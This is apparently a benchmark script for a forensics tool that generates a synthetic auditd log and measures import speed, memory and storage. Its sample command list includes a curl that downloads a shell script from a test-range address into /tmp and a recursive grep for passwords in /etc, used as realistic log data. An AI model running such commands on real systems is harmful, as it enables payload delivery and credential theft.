"""Benchmark of ``forensix import auditd``: records/s, MB/s, peak memory, bytes per event.

    python bench/import.py [--mb 256] [--gzip] [--out docs/benchmarks-import.md]

A large auditd log is generated in the shape Debian's auditd 3.0.9 writes (ENRICHED
format) for a host audited with a realistic rule set: processes that fork and exec
(SYSCALL, EXECVE with argv, CWD, two PATH records, PROCTITLE, EOE), open files for writing
(SYSCALL + CWD + two PATH, one of them CREATE), connect (SYSCALL + SOCKADDR), exit, and
pam's USER_START/USER_END records; every tenth event interleaved with the next, as auditd
writes records of concurrent syscalls. The import runs in a child process (``forensix
import``, its progress bar off) so that its peak resident memory is measured alone; the
store's bytes per event are its files' size over the events imported.
"""

from __future__ import annotations

import argparse
import datetime as dt
import gzip
import os
import random
import resource
import subprocess
import sys
import tempfile
import time
from pathlib import Path

_SYSCALL = ('type=SYSCALL msg=audit({t}:{s}): arch=c000003e syscall={nr} success={ok} exit={ret} a0={a0:x} '
            'a1={a1:x} a2={a2:x} a3=0 items={items} ppid={ppid} pid={pid} auid=1000 uid={uid} gid={uid} euid={uid} '
            'suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses=3 comm="{comm}" exe="{exe}" '
            'subj=unconfined key="{key}"\x1dARCH=x86_64 SYSCALL={name} AUID="alice" UID="{uname}" GID="{uname}" '
            'EUID="{uname}" SUID="{uname}" FSUID="{uname}" EGID="{uname}" SGID="{uname}" FSGID="{uname}"')
_PATH = ('type=PATH msg=audit({t}:{s}): item={i} name="{name}" inode={ino} dev=fd:01 mode=0100644 ouid=0 '
         'ogid=0 rdev=00:00 nametype={nt} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'
         '\x1dOUID="root" OGID="root"')
_PROGS = [("/usr/bin/curl", ["curl", "-s", "-o", "/tmp/x.sh", "http://203.0.113.7/x.sh"]),
          ("/usr/bin/grep", ["grep", "--color=auto", "-r", "password", "/etc"]),
          ("/usr/bin/python3.11", ["python3", "-c", "import os; print(os.getpid())"]),
          ("/usr/bin/tar", ["tar", "czf", "/tmp/backup.tgz", "/home/alice/projects"]),
          ("/usr/bin/ls", ["ls", "-la", "/var/tmp"])]


def _event(rng: random.Random, s: int, t: str, pid: int) -> list[str]:
    kind = rng.random()
    exe, argv = _PROGS[s % len(_PROGS)]
    comm = exe.rsplit("/", 1)[-1][:15]
    common = dict(t=t, s=s, pid=pid, ppid=pid - 1, uid=1000, uname="alice", comm=comm, exe=exe, a0=0x7ffd1234,
                  a1=0x55aa00, a2=0x241)
    if kind < 0.35:
        args = " ".join(f'a{i}="{a}"' if " " not in a and '"' not in a else f"a{i}={a.encode().hex().upper()}"
                        for i, a in enumerate(argv))
        return [_SYSCALL.format(nr=59, ok="yes", ret=0, items=2, key="exec", name="execve", **common),
                f"type=EXECVE msg=audit({t}:{s}): argc={len(argv)} {args}",
                f'type=CWD msg=audit({t}:{s}): cwd="/home/alice"',
                _PATH.format(t=t, s=s, i=0, name=exe, ino=1000 + s % 500, nt="NORMAL"),
                _PATH.format(t=t, s=s, i=1, name="/lib64/ld-linux-x86-64.so.2", ino=77, nt="NORMAL"),
                f"type=PROCTITLE msg=audit({t}:{s}): proctitle={chr(0).join(argv).encode().hex().upper()}"]
    if kind < 0.75:
        name = f"/home/alice/projects/f{s % 997}.txt"
        return [_SYSCALL.format(nr=257, ok="yes", ret=3, items=2, key="writes", name="openat", **common),
                f'type=CWD msg=audit({t}:{s}): cwd="/home/alice"',
                _PATH.format(t=t, s=s, i=0, name="/home/alice/projects/", ino=501, nt="PARENT"),
                _PATH.format(t=t, s=s, i=1, name=name, ino=20000 + s % 997, nt="CREATE"),
                f"type=PROCTITLE msg=audit({t}:{s}): proctitle={comm.encode().hex().upper()}"]
    if kind < 0.9:
        port = 443 if s % 2 else 22
        return [_SYSCALL.format(nr=42, ok="no", ret=-115, items=0, key="net", name="connect", **common),
                f"type=SOCKADDR msg=audit({t}:{s}): saddr=0200{port:04X}CB0071070000000000000000"
                "\x1dSADDR={ saddr_fam=inet laddr=203.0.113.7 lport=443 }",
                f"type=PROCTITLE msg=audit({t}:{s}): proctitle={comm.encode().hex().upper()}"]
    if kind < 0.97:
        return [_SYSCALL.format(nr=231, ok="yes", ret=0, items=0, key="exit", name="exit_group", **common),
                f"type=PROCTITLE msg=audit({t}:{s}): proctitle={comm.encode().hex().upper()}"]
    return [f"type=USER_START msg=audit({t}:{s}): pid={pid} uid=0 auid=1000 ses=3 subj=unconfined "
            "msg='op=PAM:session_open grantors=pam_unix acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.9 "
            "addr=203.0.113.9 terminal=ssh res=success'\x1dUID=\"root\" AUID=\"alice\""]


def generate(path: Path, mb: int, seed: int = 7) -> tuple[int, int]:
    """A log of about ``mb`` MiB; returns (lines, events)."""
    rng = random.Random(seed)
    target = mb << 20
    size = lines = events = 0
    t0 = 1_765_000_000.0
    s = 1000
    with path.open("w") as f:
        held: list[str] = []
        while size < target:
            s += 1
            t = f"{t0 + s * 0.0007:.3f}"
            pid = 10_000 + (s % 30_000)
            recs = _event(rng, s, t, pid)
            if not recs[0].startswith("type=USER"):
                recs.append(f"type=EOE msg=audit({t}:{s}): ")
            if s % 10 == 0 and not held:  # interleave this event's records with the next one's
                held = recs
                continue
            out = recs
            if held:
                out = [x for pair in zip(held, recs, strict=False) for x in pair]
                out += held[len(recs):] + recs[len(held):]
                held = []
                events += 1
            text = "\n".join(out) + "\n"
            f.write(text)
            size += len(text)
            lines += len(out)
            events += 1
    return lines, events


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--mb", type=int, default=256, help="size of the generated log (MiB)")
    ap.add_argument("--gzip", action="store_true", help="import it gzipped (audit.log.1.gz)")
    ap.add_argument("--out", default="docs/benchmarks-import.md")
    a = ap.parse_args()
    with tempfile.TemporaryDirectory(prefix="import-bench-") as d:
        log = Path(d) / "audit.log"
        t = time.monotonic()
        lines, events = generate(log, a.mb)
        gen_s = time.monotonic() - t
        if a.gzip:
            gz = Path(d) / "audit.log.1.gz"
            with log.open("rb") as src, gzip.open(gz, "wb", compresslevel=6) as dst:
                while chunk := src.read(1 << 20):
                    dst.write(chunk)
            log.unlink()
            log = gz
        raw_mb = a.mb
        disk_mb = log.stat().st_size / (1 << 20)
        store = Path(d) / "s.duckdb"
        env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "src")}
        t = time.monotonic()
        r = subprocess.run([sys.executable, "-m", "forensix", "import", "auditd", str(log), "--store", str(store),
                            "--quiet", "--host-name", "bench"], env=env, capture_output=True, text=True, check=False)
        wall = time.monotonic() - t
        if r.returncode != 0:
            print(r.stdout, r.stderr, file=sys.stderr)
            return 1
        ru = resource.getrusage(resource.RUSAGE_CHILDREN)
        peak_mb = ru.ru_maxrss / 1024
        cpu = ru.ru_utime + ru.ru_stime
        from forensix.store.embedded import DuckDBStore, store_files

        with DuckDBStore(store, read_only=True) as s:
            stored = int(s.query("SELECT count(*) AS n FROM events").column("n")[0].as_py())
        store_bytes = sum(f.stat().st_size for f in store_files(store))
    fig = {
        "log (MiB, uncompressed)": raw_mb, "log on disk (MiB)": round(disk_mb, 1), "lines (records)": lines,
        "audit events": events, "rows stored (events)": stored, "import wall time (s)": round(wall, 1),
        "import CPU time (s)": round(cpu, 1), "records/s": round(lines / wall),
        "records per CPU second": round(lines / cpu), "events/s": round(events / wall), "MB/s (uncompressed)": round(raw_mb / wall, 2),
        "peak resident memory of the import (MiB)": round(peak_mb), "store bytes per event": round(store_bytes / stored, 1),
        "generation time (s)": round(gen_s, 1),
    }
    for k, v in fig.items():
        print(f"{k}: {v}")
    _write(Path(a.out), fig, a)
    return 0


def _write(out: Path, fig: dict[str, object], a: argparse.Namespace) -> None:
    stamp = dt.datetime.now(dt.timezone.utc).strftime("%Y-%m-%d %H:%M UTC")
    rows = "\n".join(f"| {k} | {v} |" for k, v in fig.items())
    out.write_text(f"""# Import benchmark: auditd logs

`python bench/import.py --mb {a.mb}{' --gzip' if a.gzip else ''}` on this machine ({os.cpu_count()} cores),
{stamp}. A generated ENRICHED auditd log (execs with argv, writes with PATH records, connects
with SOCKADDR, exits, pam records; one event in ten interleaved with the next) imported by
`forensix import auditd` in a child process; see the module's docstring. The machine is
shared (other work runs on its two cores): the CPU time is the steadier figure.

| figure | value |
|---|---|
{rows}

The parser's memory is bounded whatever the log's size: lines are read one at a time, rows
go to the store in batches of 8192 events, and half-assembled events are capped (256
pending, 5 s of log time). The peak above is the whole `forensix` process (Python, DuckDB,
pyarrow), DuckDB's buffer manager included.
""")


if __name__ == "__main__":
    sys.exit(main())
